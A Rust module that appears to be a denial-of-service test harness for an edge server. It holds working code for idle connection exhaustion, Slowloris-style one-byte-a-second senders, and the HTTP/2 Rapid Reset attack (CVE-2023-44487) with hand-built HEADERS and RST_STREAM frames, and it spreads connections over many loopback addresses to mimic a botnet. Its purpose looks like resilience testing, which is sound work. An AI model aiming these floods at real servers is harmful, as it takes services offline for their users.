//! What comes down on the edge: connections that idle, senders that drip, HTTP/2 clients that ask and take back.
//!
//! Everything has an end: in connections, in requests a second, in time. An attacker who is cut comes again, as long as he may.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio_util::sync::CancellationToken;

/// How long a slow sender waits before it comes again; who resets streams waits a tenth of it.
const AGAIN: Duration = Duration::from_secs(1);

/// How many of each, at the most.
#[derive(Clone, Copy, Debug, Default)]
pub struct Strength {
    /// Connections that asked once and say no more.
    pub idle: usize,
    /// Connections that send an octet a second, half of them of a head, half of a body.
    pub slow: usize,
    /// Connections that open streams and reset them.
    pub resetting: usize,
    /// Streams that they open and reset a second, all together.
    pub resets: u64,
}

/// What they did.
#[derive(Debug, Default)]
pub struct Deeds {
    /// Connections that idle or drip now.
    pub open: AtomicU64,
    /// Streams opened and reset.
    pub resets: AtomicU64,
    /// Connections that the edge has ended.
    pub cut: AtomicU64,
}

/// Everything that an attacker needs.
#[derive(Clone)]
pub struct Attack {
    pub target: SocketAddr,
    pub deeds: Arc<Deeds>,
    pub over: CancellationToken,
}

impl Attack {
    /// Begins, and gives back once the idle ones are in place.
    pub async fn begin(&self, strength: Strength) {
        let mut opening = tokio::task::JoinSet::new();
        for n in 0..strength.idle {
            let attack = self.clone();
            opening.spawn(async move { attack.idle(n).await });
            // So many at a time as fit into the queue of a listening socket.
            while opening.len() > 256 {
                opening.join_next().await;
            }
        }
        opening.join_all().await;
        for n in 0..strength.slow {
            let attack = self.clone();
            tokio::spawn(self.over.clone().run_until_cancelled_owned(async move { attack.drip(n).await }));
        }
        for n in 0..strength.resetting {
            let (attack, pace) = (self.clone(), strength.resets / strength.resetting as u64);
            tokio::spawn(self.over.clone().run_until_cancelled_owned(async move { attack.reset(n, pace).await }));
        }
    }

    async fn connect(&self, n: usize) -> Option<TcpStream> {
        let socket = TcpSocket::new_v4().ok()?;
        // A hundred from each address, as botnets have them.
        let [high, low] = ((n / 100) as u16).to_be_bytes();
        socket.bind(SocketAddr::from(([127, 88, high, low.max(1)], 0))).ok()?;
        tokio::time::timeout(Duration::from_secs(5), socket.connect(self.target)).await.ok()?.ok()
    }

    /// Asks once, then keeps the connection.
    async fn idle(&self, n: usize) {
        let Some(mut tcp) = self.connect(n).await else { return };
        let mut answer = [0; 1024];
        if tcp.write_all(b"GET / HTTP/1.1\r\nhost: siege.test\r\n\r\n").await.is_err()
            || tcp.read(&mut answer).await.is_err()
        {
            return;
        }
        self.deeds.open.fetch_add(1, Relaxed);
        let attack = self.clone();
        tokio::spawn(async move {
            let ended = attack.over.run_until_cancelled(tcp.read(&mut [0])).await;
            attack.deeds.cut.fetch_add(u64::from(ended.is_some()), Relaxed);
            attack.deeds.open.fetch_sub(1, Relaxed);
        });
    }

    /// Sends an octet a second, again and again.
    async fn drip(&self, n: usize) {
        let begun: &[u8] = match n % 2 {
            0 => b"GET / HTTP/1.1\r\nhost: siege.test\r\nx-drip: ",
            _ => b"POST / HTTP/1.1\r\nhost: siege.test\r\ncontent-length: 100000\r\n\r\n",
        };
        loop {
            tokio::time::sleep(AGAIN).await;
            let Some(mut tcp) = self.connect(30_000 + n).await else { continue };
            self.deeds.open.fetch_add(1, Relaxed);
            let mut sent = tcp.write_all(begun).await;
            let mut scrap = [0; 512];
            while sent.is_ok() {
                match tokio::time::timeout(Duration::from_secs(1), tcp.read(&mut scrap)).await {
                    Err(_) => sent = tcp.write_all(b"x").await,
                    Ok(_) => break,
                }
            }
            self.deeds.cut.fetch_add(1, Relaxed);
            self.deeds.open.fetch_sub(1, Relaxed);
        }
    }

    /// Opens streams and resets them at once (CVE-2023-44487), `pace` a second.
    async fn reset(&self, n: usize, pace: u64) {
        const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
        /// `:method: GET`, `:scheme: http`, `:path: /` of the static table, and `:authority: siege.test`.
        const HEAD: &[u8] = b"\x82\x86\x84\x41\x0asiege.test";
        let mut round = tokio::time::interval(Duration::from_millis(10));
        loop {
            tokio::time::sleep(AGAIN / 10).await;
            let Some(mut tcp) = self.connect(50_000 + n).await else { continue };
            let (mut stream, mut scrap, mut sent) = (1u32, [0; 16 * 1024], tcp.write_all(PREFACE).await);
            while sent.is_ok() && stream < 1 << 30 {
                round.tick().await;
                let mut frames = Vec::new();
                for _ in 0..pace.div_ceil(100) {
                    frames.extend_from_slice(&[0, 0, HEAD.len() as u8, 1, 5]);
                    frames.extend_from_slice(&stream.to_be_bytes());
                    frames.extend_from_slice(HEAD);
                    frames.extend_from_slice(&[0, 0, 4, 3, 0]);
                    frames.extend_from_slice(&stream.to_be_bytes());
                    frames.extend_from_slice(&8u32.to_be_bytes());
                    stream += 2;
                }
                sent = tcp.write_all(&frames).await;
                self.deeds.resets.fetch_add(pace.div_ceil(100), Relaxed);
                // What is answered is read and forgotten.
                while let Ok(1..) = tcp.try_read(&mut scrap) {}
            }
            self.deeds.cut.fetch_add(1, Relaxed);
        }
    }
}
